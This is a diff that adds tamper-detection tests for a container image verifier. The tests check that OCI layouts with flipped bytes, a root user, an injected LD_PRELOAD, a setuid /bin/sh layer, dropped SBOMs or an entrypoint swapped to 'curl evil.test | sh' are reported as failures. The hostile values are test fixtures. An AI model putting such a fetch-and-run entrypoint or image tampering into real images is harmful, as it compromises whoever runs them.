@@ -4,14 +4,22 @@ package main
 // index.json entries, referrers), detected by hic verify.
 
 import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
 	"encoding/json"
+	"io"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
 	v1 "github.com/google/go-containerregistry/pkg/v1"
 	"github.com/google/go-containerregistry/pkg/v1/layout"
+	"github.com/google/go-containerregistry/pkg/v1/mutate"
+	"github.com/google/go-containerregistry/pkg/v1/tarball"
+	"github.com/google/go-containerregistry/pkg/v1/types"
 
 	"github.com/hic-build/hic/compiler/attest"
 	"github.com/hic-build/hic/compiler/sign"
@@ -115,6 +123,192 @@ func tamperLayoutCases() []tamperCase {
 			},
 			Detect:   verify(tamperWolfi),
 			Want:     []string{"FAIL", "attestation-signatures"},
+			Tampered: []string{tamperWolfi},
+		},
+		{
+			Name: "layout: one byte of a layer flipped",
+			Attack: func(t *testing.T, e *tamperEnv) {
+				_, m := tamperPlatform(t, e, tamperWolfi, "linux/amd64")
+				tamperFlipBlob(t, e, m.Layers[len(m.Layers)-1].Digest)
+			},
+			Detect:   verify(tamperWolfi),
+			Want:     []string{"FAIL", "blobs", "layer sha256:", "content has digest"},
+			Tampered: []string{tamperWolfi},
+		},
+		{
+			Name: "layout: one byte of the image index flipped",
+			Attack: func(t *testing.T, e *tamperEnv) {
+				tamperFlipBlob(t, e, tamperHash(t, e.Digest(tamperWolfi)))
+			},
+			Detect:   verify("app:1"),
+			Want:     []string{"app:1", "FAIL", "blobs", "index sha256:", "content has digest"},
+			Tampered: []string{tamperWolfi},
+		},
+		{
+			Name: "layout: a platform manifest's size misstated in the index",
+			Attack: func(t *testing.T, e *tamperEnv) {
+				// A manifest padded with a trailing space: same JSON, another
+				// digest; the index is rewritten to name it with its old size.
+				pd, _ := tamperPlatform(t, e, tamperWolfi, "linux/arm64")
+				b, err := os.ReadFile(tamperBlobPath(e, pd.Digest))
+				if err != nil {
+					t.Fatal(err)
+				}
+				nd := tamperWriteBlob(t, e, append(b, ' '))
+				tamperRewriteIndex(t, e, tamperWolfi, func(im *v1.IndexManifest) {
+					for i, c := range im.Manifests {
+						if c.Digest == pd.Digest {
+							im.Manifests[i].Digest = nd.Digest // size left as it was
+						}
+					}
+				})
+			},
+			Detect:   verify(tamperWolfi),
+			Want:     []string{"FAIL", "blobs", "its descriptor says"},
+			Tampered: []string{tamperWolfi},
+		},
+		{
+			Name: "layout: config User set to 0 (digests rewritten up to index.json)",
+			Attack: func(t *testing.T, e *tamperEnv) {
+				tamperRewriteImage(t, e, tamperWolfi, "linux/amd64", func(img v1.Image) v1.Image {
+					cf, err := img.ConfigFile()
+					if err != nil {
+						t.Fatal(err)
+					}
+					cfg := cf.Config
+					cfg.User = "0"
+					out, err := mutate.Config(img, cfg)
+					if err != nil {
+						t.Fatal(err)
+					}
+					return out
+				})
+			},
+			Detect:   verify("app:latest"),
+			Want:     []string{"FAIL", "config", `linux/amd64 config User is "0", the spec says "65532"`, "image-signature"},
+			Tampered: []string{tamperWolfi},
+		},
+		{
+			Name: "layout: config Env gains LD_PRELOAD, config blob edited in place",
+			Attack: func(t *testing.T, e *tamperEnv) {
+				_, m := tamperPlatform(t, e, tamperWolfi, "linux/amd64")
+				var cf v1.ConfigFile
+				tamperReadJSON(t, e, m.Config.Digest, &cf)
+				cf.Config.Env = append(cf.Config.Env, "LD_PRELOAD=/tmp/evil.so")
+				b, err := json.Marshal(cf)
+				if err != nil {
+					t.Fatal(err)
+				}
+				if err := os.WriteFile(tamperBlobPath(e, m.Config.Digest), b, 0o644); err != nil {
+					t.Fatal(err)
+				}
+			},
+			Detect:   verify(tamperWolfi),
+			Want:     []string{"FAIL", "blobs", "config " + "sha256:", "config Env", "LD_PRELOAD"},
+			Tampered: []string{tamperWolfi},
+		},
+		{
+			Name: "layout: entrypoint swapped (digests rewritten up to index.json)",
+			Attack: func(t *testing.T, e *tamperEnv) {
+				tamperRewriteImage(t, e, tamperAlpine, "linux/arm64", func(img v1.Image) v1.Image {
+					cf, err := img.ConfigFile()
+					if err != nil {
+						t.Fatal(err)
+					}
+					cfg := cf.Config
+					cfg.Entrypoint = []string{"/bin/sh", "-c", "curl evil.test | sh"}
+					out, err := mutate.Config(img, cfg)
+					if err != nil {
+						t.Fatal(err)
+					}
+					return out
+				})
+			},
+			Detect:   verify(tamperAlpine),
+			Want:     []string{"FAIL", "config", "linux/arm64 config Entrypoint is", "curl evil.test"},
+			Tampered: []string{tamperAlpine},
+		},
+		{
+			Name: "layout: setuid /bin/sh added in a layer (digests rewritten up to index.json)",
+			Attack: func(t *testing.T, e *tamperEnv) {
+				tamperRewriteImage(t, e, tamperWolfi, "linux/amd64", func(img v1.Image) v1.Image {
+					l := tamperTarLayer(t, tar.Header{Name: "bin/sh", Mode: 0o4755, Typeflag: tar.TypeReg}, []byte("#!evil\n"))
+					out, err := mutate.AppendLayers(img, l)
+					if err != nil {
+						t.Fatal(err)
+					}
+					return out
+				})
+			},
+			Detect:   verify(tamperWolfi),
+			Want:     []string{"FAIL", "filesystem", "fs-setuid", "/bin/sh is setuid"},
+			Tampered: []string{tamperWolfi},
+		},
+		{
+			Name: "layout: a referrer blob listed in index.json deleted",
+			Attack: func(t *testing.T, e *tamperEnv) {
+				// The findings referrer: hic verify read no attestation from it
+				// before this check existed.
+				d := tamperArtifact(t, e, tamperWolfi, "application/vnd.dev.hic.findings.v1+json")
+				if err := os.Remove(tamperBlobPath(e, d.Digest)); err != nil {
+					t.Fatal(err)
+				}
+			},
+			Detect:   verify(tamperWolfi),
+			Want:     []string{"FAIL", "blobs", "missing from the layout"},
+			Tampered: []string{tamperWolfi},
+		},
+		{
+			Name: "layout: the SPDX SBOM artifact's layer replaced",
+			Attack: func(t *testing.T, e *tamperEnv) {
+				d := tamperArtifact(t, e, tamperAlpine, "application/spdx+json")
+				var m v1.Manifest
+				tamperReadJSON(t, e, d.Digest, &m)
+				if err := os.WriteFile(tamperBlobPath(e, m.Layers[0].Digest), []byte(`{"spdxVersion":"SPDX-2.3","packages":[]}`), 0o644); err != nil {
+					t.Fatal(err)
+				}
+			},
+			Detect:   verify("app:1-alpine3.23"),
+			Want:     []string{"FAIL", "blobs", "layer sha256:", "content has digest"},
+			Tampered: []string{tamperAlpine},
+		},
+		{
+			Name: "layout: CycloneDX attestations dropped",
+			Attack: func(t *testing.T, e *tamperEnv) {
+				var drop []v1.Hash
+				_, plats := tamperIndex(t, e, tamperWolfi)
+				for _, p := range plats {
+					refs, err := attest.Referrers(t.Context(), tamperLayout(e), p.Digest, attest.PredicateCycloneDX)
+					if err != nil || len(refs) == 0 {
+						t.Fatalf("CycloneDX referrers of %s: %v %v", p.Digest, refs, err)
+					}
+					for _, r := range refs {
+						drop = append(drop, r.Manifest.Digest)
+					}
+				}
+				tamperEditIndex(t, e, func(im *v1.IndexManifest) {
+					var kept []v1.Descriptor
+					for _, d := range im.Manifests {
+						if !slices.Contains(drop, d.Digest) {
+							kept = append(kept, d)
+						}
+					}
+					im.Manifests = kept
+				})
+			},
+			Detect:   verify(tamperWolfi),
+			Want:     []string{"FAIL", "sbom", "linux/amd64: no signed CycloneDX SBOM", "linux/arm64: no signed CycloneDX SBOM"},
+			Tampered: []string{tamperWolfi},
+		},
+		{
+			Name: "layout: image annotation changed (digests rewritten up to index.json)",
+			Attack: func(t *testing.T, e *tamperEnv) {
+				tamperRewriteImage(t, e, tamperWolfi, "linux/arm64", func(img v1.Image) v1.Image {
+					return mutate.Annotations(img, map[string]string{"org.opencontainers.image.licenses": "LicenseRef-proprietary"}).(v1.Image)
+				})
+			},
+			Detect:   verify(tamperWolfi),
+			Want:     []string{"FAIL", "config", "linux/arm64: manifest annotation org.opencontainers.image.licenses is \"LicenseRef-proprietary\""},
 			Tampered: []string{tamperWolfi},
 		},
 	}
@@ -247,4 +441,179 @@ func tamperReplaceBlob(t *testing.T, e *tamperEnv, old v1.Hash, data []byte, man
 			}
 		}
 	})
+}
+
+// tamperIndex returns the good index manifest of spec and its platform
+// descriptors.
+func tamperIndex(t *testing.T, e *tamperEnv, spec string) (v1.IndexManifest, []v1.Descriptor) {
+	t.Helper()
+	var im v1.IndexManifest
+	tamperReadJSON(t, e, tamperHash(t, e.Digest(spec)), &im)
+	var plats []v1.Descriptor
+	for _, d := range im.Manifests {
+		if d.Platform != nil {
+			plats = append(plats, d)
+		}
+	}
+	return im, plats
+}
+
+// tamperPlatform returns the descriptor and manifest of one platform of spec.
+func tamperPlatform(t *testing.T, e *tamperEnv, spec, platform string) (v1.Descriptor, v1.Manifest) {
+	t.Helper()
+	_, plats := tamperIndex(t, e, spec)
+	for _, d := range plats {
+		if d.Platform.OS+"/"+d.Platform.Architecture == platform {
+			var m v1.Manifest
+			tamperReadJSON(t, e, d.Digest, &m)
+			return d, m
+		}
+	}
+	t.Fatalf("%s has no %s image", spec, platform)
+	return v1.Descriptor{}, v1.Manifest{}
+}
+
+// tamperArtifact returns the index.json entry of spec's one artifact of
+// artifactType whose subject is the index.
+func tamperArtifact(t *testing.T, e *tamperEnv, spec, artifactType string) v1.Descriptor {
+	t.Helper()
+	var im v1.IndexManifest
+	b, err := os.ReadFile(filepath.Join(e.OCI(), "index.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := json.Unmarshal(b, &im); err != nil {
+		t.Fatal(err)
+	}
+	for _, d := range im.Manifests {
+		if d.ArtifactType != artifactType || d.Annotations[store.AnnotationSpecRef] != spec {
+			continue
+		}
+		var m v1.Manifest
+		tamperReadJSON(t, e, d.Digest, &m)
+		if m.Subject != nil && m.Subject.Digest.String() == e.Digest(spec) {
+			return d
+		}
+	}
+	t.Fatalf("%s has no %s artifact about its index", spec, artifactType)
+	return v1.Descriptor{}
+}
+
+// tamperRewriteIndex is the thorough attacker's rewrite of spec's image
+// index: edit it, store it under its new digest and point every index.json
+// entry of the old index at it.
+func tamperRewriteIndex(t *testing.T, e *tamperEnv, spec string, edit func(*v1.IndexManifest)) v1.Descriptor {
+	t.Helper()
+	old := tamperHash(t, e.Digest(spec))
+	var im v1.IndexManifest
+	tamperReadJSON(t, e, old, &im)
+	edit(&im)
+	nd := tamperWriteJSON(t, e, im)
+	tamperEditIndex(t, e, func(top *v1.IndexManifest) {
+		for i, d := range top.Manifests {
+			if d.Digest == old {
+				top.Manifests[i].Digest, top.Manifests[i].Size = nd.Digest, nd.Size
+			}
+		}
+	})
+	return nd
+}
+
+// tamperRewriteImage replaces one platform image of spec with edit's result,
+// writing its blobs and rewriting the index and index.json to name it: every
+// digest is consistent, only the signatures no longer match.
+func tamperRewriteImage(t *testing.T, e *tamperEnv, spec, platform string, edit func(v1.Image) v1.Image) {
+	t.Helper()
+	pd, _ := tamperPlatform(t, e, spec, platform)
+	ii, err := layout.ImageIndexFromPath(e.OCI())
+	if err != nil {
+		t.Fatal(err)
+	}
+	idx, err := ii.ImageIndex(tamperHash(t, e.Digest(spec)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	img, err := idx.Image(pd.Digest)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ni := edit(img)
+	if err := tamperLayout(e).WriteBlob(tamperCfgName(t, ni), tamperReader(t, ni.RawConfigFile)); err != nil {
+		t.Fatal(err)
+	}
+	ls, err := ni.Layers()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, l := range ls {
+		rc, err := l.Compressed()
+		if err != nil {
+			t.Fatal(err)
+		}
+		h, err := l.Digest()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := tamperLayout(e).WriteBlob(h, rc); err != nil {
+			t.Fatal(err)
+		}
+	}
+	raw, err := ni.RawManifest()
+	if err != nil {
+		t.Fatal(err)
+	}
+	md := tamperWriteBlob(t, e, raw)
+	tamperRewriteIndex(t, e, spec, func(im *v1.IndexManifest) {
+		for i, c := range im.Manifests {
+			if c.Digest == pd.Digest {
+				im.Manifests[i].Digest, im.Manifests[i].Size = md.Digest, md.Size
+			}
+		}
+	})
+}
+
+
+func tamperReader(t *testing.T, f func() ([]byte, error)) io.ReadCloser {
+	t.Helper()
+	b, err := f()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return io.NopCloser(bytes.NewReader(b))
+}
+
+// tamperTarLayer is a gzipped OCI layer holding one file.
+func tamperTarLayer(t *testing.T, h tar.Header, data []byte) v1.Layer {
+	t.Helper()
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	h.Size = int64(len(data))
+	if err := tw.WriteHeader(&h); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := tw.Write(data); err != nil {
+		t.Fatal(err)
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := gz.Close(); err != nil {
+		t.Fatal(err)
+	}
+	b := buf.Bytes()
+	l, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(b)), nil }, tarball.WithMediaType(types.OCILayer))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return l
+}
+
+func tamperCfgName(t *testing.T, img v1.Image) v1.Hash {
+	t.Helper()
+	h, err := img.ConfigName()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return h
 }
